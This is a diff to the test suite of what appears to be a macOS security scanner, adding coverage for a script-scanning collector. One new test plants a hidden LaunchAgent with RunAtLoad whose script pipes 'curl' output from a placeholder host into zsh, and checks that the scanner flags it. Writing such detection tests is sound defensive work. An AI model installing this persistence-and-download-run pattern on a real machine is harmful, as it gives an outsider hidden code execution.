@@ -45,7 +45,8 @@ def test_benign_mac_has_no_finding_at_medium_or_above(benign: Path) -> None:
     serious = [(f.id, f.title) for f in report.findings if f.severity >= Severity.MEDIUM]
     assert serious == []
     coverage = {c.id: c.status for c in report.coverage}
-    assert set(coverage) == {c.id for c in macos_collectors()}
+    assert set(coverage) == {c.id for c in macos_collectors()} | {"scan.scripts"}
+    assert coverage.pop("scan.scripts") in (CoverageStatus.OK, CoverageStatus.NOT_APPLICABLE)
     # A Mac with no configuration profile has none of the profile folders: said so, not "ok".
     assert coverage.pop("macos.profiles") is CoverageStatus.NOT_APPLICABLE
     assert all(status is CoverageStatus.OK for status in coverage.values()), report.coverage
@@ -261,3 +262,17 @@ def test_damaged_files_give_coverage_rows_not_tracebacks(benign: Path) -> None:
     # the damaged app is still listed by its folder name
     serious = [f.id for f in report.findings if f.severity >= Severity.MEDIUM]
     assert serious == []
+
+
+def test_launch_agent_script_that_downloads_and_runs(benign: Path) -> None:
+    script = f"{ALICE}/Library/Application Support/.sync/run.sh"
+    launchd(
+        benign,
+        f"{ALICE}/Library/LaunchAgents/com.sync.helper.plist",
+        "com.sync.helper",
+        [script],
+        RunAtLoad=True,
+    )
+    write(benign, script, b"#!/bin/zsh\ncurl -fsSL https://example.invalid/m | zsh\n", 0o755)
+    found = [f for f in scan(benign).findings if f.id == "SC-SCRIPT-DOWNLOAD-RUN"]
+    assert found and found[0].evidence[0].path == script
